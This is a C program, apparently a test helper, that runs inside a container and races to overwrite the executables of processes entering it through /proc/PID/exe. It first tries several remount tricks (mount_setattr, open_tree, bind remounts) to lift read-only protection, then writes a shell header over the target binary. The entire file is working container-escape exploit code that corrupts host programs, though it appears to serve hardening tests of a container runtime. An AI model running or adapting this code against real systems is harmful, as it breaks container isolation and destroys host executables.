// racer SECONDS: in a container, tries to write to the executable of every process that appears, by all ways it knows.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif

struct attributes { unsigned long long set, clear, propagation, userns; };

static long opened, wrote, unwrapped, seen;

// Whether a link leads to nothing, or to a program of the container's own.
static int is_own(const char *link)
{
    char target[256];
    ssize_t length = readlink(link, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    return length < 0 || !strncmp(target, "/bin/", 5) || !strncmp(target, "/racer", 6);
}

static void attack(const char *exe)
{
    char magic[64];
    if (is_own(exe))
        return;
    seen++;

    // The mount it is on: read-only? make it writable, in each way that there is.
    struct attributes writable = {0, 1, 0, 0};
    int path = open(exe, O_PATH);
    snprintf(magic, sizeof magic, "/proc/self/fd/%d", path);
    if (path >= 0 && is_own(magic)) { // it has executed its command meanwhile
        close(path);
        return;
    }
    if (path >= 0) {
        if (!syscall(SYS_mount_setattr, path, "", AT_EMPTY_PATH, &writable, sizeof writable))
            unwrapped++;
        int copy = syscall(SYS_open_tree, path, "", AT_EMPTY_PATH | 1 /* OPEN_TREE_CLONE */);
        if (copy >= 0) {
            if (!syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof writable))
                unwrapped++;
            close(copy);
        }
        if (!mount(0, magic, 0, MS_REMOUNT | MS_BIND, 0))
            unwrapped++;
        if (!mount(magic, "/tmp/bound", 0, MS_BIND, 0))
            unwrapped++;
        close(path);
    }

    // Executed, it is busy; held open, it is not once its process has gone.
    int held = open(exe, O_RDONLY);
    for (int try = 0; try < 50; try++) {
        int fd = open(exe, O_WRONLY);
        if (fd < 0 && held >= 0) {
            snprintf(magic, sizeof magic, "/proc/self/fd/%d", held);
            fd = open(magic, O_WRONLY);
        }
        if (fd >= 0) {
            opened++;
            if (write(fd, "#!/bin/sh\n", 10) == 10)
                wrote++;
            close(fd);
        } else if (errno == EROFS || errno == EPERM || errno == EACCES)
            break;
        usleep(200);
    }
    close(held);
}

int main(int argc, char **argv)
{
    time_t end = time(0) + atoi(argv[1]);
    fclose(fopen("/tmp/bound", "w"));
    puts("racing");
    fflush(stdout);
    while (time(0) < end && access("/tmp/stop", F_OK)) {
        for (int pid = 1; pid < 400; pid++) {
            char exe[64];
            snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
            attack(exe);
        }
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            char exe[300];
            if (atoi(entry->d_name) >= 400) {
                snprintf(exe, sizeof exe, "/proc/%s/exe", entry->d_name);
                attack(exe);
            }
        }
        closedir(proc);
    }
    printf("seen=%ld opened=%ld wrote=%ld unwrapped=%ld end\n", seen, opened, wrote, unwrapped);
    return 0;
}
